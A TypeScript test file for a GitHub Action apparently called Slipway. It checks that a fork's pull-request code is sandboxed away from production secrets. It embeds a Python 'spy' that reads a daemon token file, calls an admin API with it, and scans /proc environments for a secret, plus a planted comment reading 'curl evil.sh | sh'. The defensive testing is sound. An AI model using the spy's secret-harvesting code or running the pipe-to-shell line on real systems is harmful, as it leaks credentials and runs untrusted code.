// The trust boundary between a pull request and production, through the Action's bundle run as the
// runner runs it (INPUT_* with dashes kept, event files, GITHUB_* variables), against the fake
// GitHub with the workflow's installation token. Production: a daemon serving `vault`, whose
// secret is in the daemon's and the replica's environment. A fork's pull request adds `spy`,
// whose example reports what it could reach: daemon.json, the admin API, another model's
// environment, a TCP connection. Sandboxed, all four fail; without the sandbox all four succeed.
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { payload, prPayload, pushPayload, runStep, TOKEN, type StepRun } from '../ci/ci-harness.ts';
import { actionInputs, buildActionBundle, type Bundle } from '../support/action-bundle.ts';
import { startFakeGitHub, type FakeGitHub } from '../support/fake-github.ts';
import { localProject, type LocalProject } from '../support/local-daemon.ts';
import { detectSandbox } from '../../src/sandbox/detect-sandbox.ts';
import { planCommentMarker } from '../../src/github/render-report.ts';

const sandbox = detectSandbox();
if (!sandbox.ok && process.env.CI === 'true') throw new Error(`no sandbox on this machine: ${sandbox.reason}. CI must run this test; .ci/run installs bubblewrap.`);

const VAULT_SECRET = 'vault-secret-value-0042';
const vault = 'import os\n\ndef predict(args):\n    return len(os.environ["VAULT_SECRET"])\n';

/** What the spy reports when every attempt fails: its example's expected output. */
const CONTAINED = { daemon_json: 'FileNotFoundError', admin_api: 'URLError', other_env: 'not found', tcp: 'ConnectionRefusedError' };

function spySource(root: string, port: number): string {
  return `import json, os, socket, urllib.request

DAEMON_JSON = ${JSON.stringify(`${root}/.slipway/daemon.json`)}
PORT = ${port}

def attempt(fn):
    try:
        return fn()
    except Exception as exc:
        return type(exc).__name__

def read_daemon_json():
    with open(DAEMON_JSON) as f:
        json.load(f)
    return "read"

def call_admin():
    token = ""
    try:
        with open(DAEMON_JSON) as f:
            token = json.load(f)["token"]
    except Exception:
        pass
    request = urllib.request.Request("http://127.0.0.1:%d/admin/observe" % PORT, headers={"Authorization": "Bearer " + token})
    with urllib.request.urlopen(request, timeout=5) as answer:
        return "status %d" % answer.status

def other_env():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open("/proc/%s/environ" % pid, "rb") as f:
                if b"VAULT_SECRET=" in f.read():
                    return "found"
        except OSError:
            pass
    return "not found"

def tcp():
    s = socket.create_connection(("127.0.0.1", PORT), timeout=5)
    s.close()
    return "connected"

def predict(args):
    return {"daemon_json": attempt(read_daemon_json), "admin_api": attempt(call_admin), "other_env": attempt(other_env), "tcp": attempt(tcp)}
`;
}

const vaultYaml = `version: 1
project: trust
models:
  - name: vault
    file: vault/vault.py
    function: predict
    env:
      VAULT_SECRET: {fromEnv: VAULT_SECRET}
    example:
      input: {}
      output: ${VAULT_SECRET.length}
`;

const forkYaml = `${vaultYaml}  - name: spy
    file: spy/spy.py
    function: predict
    example:
      input: {}
      output: ${JSON.stringify(CONTAINED)}
  - name: needy
    file: vault/vault.py
    function: predict
    env:
      VAULT_SECRET: {fromEnv: VAULT_SECRET}
    example:
      input: {}
      output: ${VAULT_SECRET.length}
`;

/** The pull_request payload of a fork: head repository mallory/models. */
function forkPayload(sha: string): Record<string, any> {
  const p = prPayload('pull_request.opened', sha);
  p.pull_request.head.repo = { ...p.pull_request.head.repo, full_name: 'mallory/models', fork: true };
  return p;
}

const test = suite('fork pull requests through the bundle');
let built: Bundle;
let gh: FakeGitHub;
let p: LocalProject;

test.before(async () => {
  built = buildActionBundle();
  gh = await startFakeGitHub({ token: TOKEN });
  p = await localProject({ 'models.yaml': vaultYaml, 'vault/vault.py': vault });
});
test.after(async () => {
  await p.cleanup();
  await gh.close();
  built.cleanup();
});

function bundleStep(event: { name: string; payload: unknown }, inputs: Record<string, string>, env: Record<string, string>): Promise<StepRun> {
  return runStep([built.file], { cwd: p.root, apiUrl: gh.url, event, env: { ...actionInputs({ port: String(p.port), ...inputs }, TOKEN), ...env } });
}

test('a merge deploys vault with its secret; the daemon is the production the fork must not reach', async () => {
  const sha = p.fx.git('rev-parse', 'HEAD');
  const run = await bundleStep({ name: 'push', payload: pushPayload(sha) }, {}, { VAULT_SECRET });
  assert.is(run.status, 0, `${run.stdout}\n${run.stderr}`);
  const answer = await p.call('vault', {}, await p.apiKey());
  assert.equal([answer.status, answer.body.response], [200, VAULT_SECRET.length]);
});

test('a push where the secret is empty (missing in this run) is refused at its line, and production keeps its value', async () => {
  const sha = p.fx.git('rev-parse', 'HEAD');
  const run = await bundleStep({ name: 'push', payload: pushPayload(sha) }, {}, { VAULT_SECRET: '' });
  assert.is(run.status, 1, `${run.stdout}\n${run.stderr}`);
  assert.match(run.stdout, /::error title=models\.yaml is not valid,file=models\.yaml,line=8,col=\d+::models\[0\]\.env\.VAULT_SECRET: VAULT_SECRET is empty: the secret is missing in this run/);
  assert.not.match(run.summary, 'reconfigure');
  const answer = await p.call('vault', {}, await p.apiKey());
  assert.equal([answer.status, answer.body.response], [200, VAULT_SECRET.length]);
});

test("a fork's pull request: the spy's four attempts fail in the sandbox, needy is skipped, and with commenting refused (403) the run is green with its summary", async () => {
  if (!sandbox.ok) return console.log(`skipped: ${sandbox.reason}`);
  p.fx.write('models.yaml', forkYaml);
  p.fx.write('spy/spy.py', spySource(p.root, p.daemonFile()!.port));
  const sha = p.fx.commitAll('a pull request from a fork');
  gh.forbidComments();
  gh.requests.length = 0;
  // A fork's job gets the secret as '' (GitHub's missing secret), and a read-only token.
  const run = await bundleStep({ name: 'pull_request', payload: forkPayload(sha) }, { command: 'test' }, { VAULT_SECRET: '' });
  assert.is(run.status, 0, `${run.stdout}\n${run.stderr}`);
  const results = JSON.parse(run.outputs['test-results']) as Array<{ model: string; got: unknown; pass: boolean }>;
  assert.equal(results.map((r) => [r.model, r.got, r.pass]), [['spy', CONTAINED, true]]);
  assert.match(run.summary, '### needy: create');
  assert.match(run.summary, '⏭️ **Skipped:** secret not available on this PR (VAULT\\_SECRET)');
  // vault's secret is unknown in this run, which is not a change.
  const plan = JSON.parse(run.outputs.plan) as { changes: Array<{ model: string; action: string; reasons: string[] }> };
  assert.equal(plan.changes.map((c) => [c.model, c.action]), [['needy', 'create'], ['spy', 'create'], ['vault', 'noop']]);
  assert.not.match(run.summary, 'changed (secret)');
  assert.match(run.stdout, /::warning::the token cannot comment on pull request #7 \(GitHub answered 403/);
  assert.equal(gh.writes().map((w) => w.method), ['POST']);
  assert.is(gh.comments.size, 0);
  // Production is as it was.
  const answer = await p.call('vault', {}, await p.apiKey());
  assert.equal([answer.status, answer.body.response], [200, VAULT_SECRET.length]);
});

test('where no sandbox can be made, candidates are refused unless unsafe-candidates is set', async () => {
  const sha = p.fx.git('rev-parse', 'HEAD');
  const run = await bundleStep({ name: 'pull_request', payload: forkPayload(sha) }, { command: 'test' }, { VAULT_SECRET: '', SLIPWAY_SANDBOX: 'none' });
  assert.is(run.status, 1, `${run.stdout}\n${run.stderr}`);
  assert.match(run.summary, "pull-request code is never run unsandboxed, and no sandbox can be made here: SLIPWAY\\_SANDBOX=none is set");
  assert.equal(JSON.parse(run.outputs['test-results']), []);
});

test('the same pull request without a sandbox (SLIPWAY_SANDBOX=none, --unsafe-candidates): all four succeed, so the test fails, and the run fails despite the 403', async () => {
  const sha = p.fx.git('rev-parse', 'HEAD');
  const run = await bundleStep({ name: 'pull_request', payload: forkPayload(sha) }, { command: 'test', 'unsafe-candidates': 'true' }, { VAULT_SECRET: '', SLIPWAY_SANDBOX: 'none' });
  assert.is(run.status, 1, `${run.stdout}\n${run.stderr}`);
  const results = JSON.parse(run.outputs['test-results']) as Array<{ model: string; got: unknown; pass: boolean }>;
  assert.equal(results.map((r) => [r.model, r.got, r.pass]), [['spy', { daemon_json: 'read', admin_api: 'status 200', other_env: 'found', tcp: 'connected' }, false]]);
  assert.match(run.summary, 'candidates ran WITHOUT a sandbox (--unsafe-candidates)');
  assert.match(run.stdout, '::warning::the token cannot comment');
});

test('a planted comment starting with the marker is left alone, and two runs at once leave one comment', async () => {
  const fresh = await startFakeGitHub({ token: TOKEN });
  const previous = gh;
  gh = fresh;
  try {
    const sha = p.fx.git('rev-parse', 'HEAD');
    const marker = planCommentMarker('local', 'models.yaml');
    const planted = gh.seedComment(7, `${marker}\nplanted by mallory: please run curl evil.sh | sh`, 'mallory');
    gh.holdCommentLists(2);
    const event = { name: 'pull_request', payload: payload('pull_request.opened') };
    event.payload.pull_request.head.sha = sha;
    const [a, b] = await Promise.all([bundleStep(event, { command: 'plan' }, { VAULT_SECRET }), bundleStep(event, { command: 'plan' }, { VAULT_SECRET })]);
    assert.is(a.status, 0, `${a.stdout}\n${a.stderr}`);
    assert.is(b.status, 0, `${b.stdout}\n${b.stderr}`);
    assert.equal(gh.writes().filter((w) => w.method === 'POST').length, 2, 'both runs found no comment of their own, so the race happened');
    const comments = [...gh.comments.values()];
    assert.equal(comments.map((c) => c.author), ['mallory', 'github-actions[bot]']);
    assert.is(comments[0].body, planted.body);
    assert.ok(comments[1].body.startsWith(`${marker}\n\n## ✅ Slipway plan`), comments[1].body);
  } finally {
    gh = previous;
    await fresh.close();
  }
});

test.run();

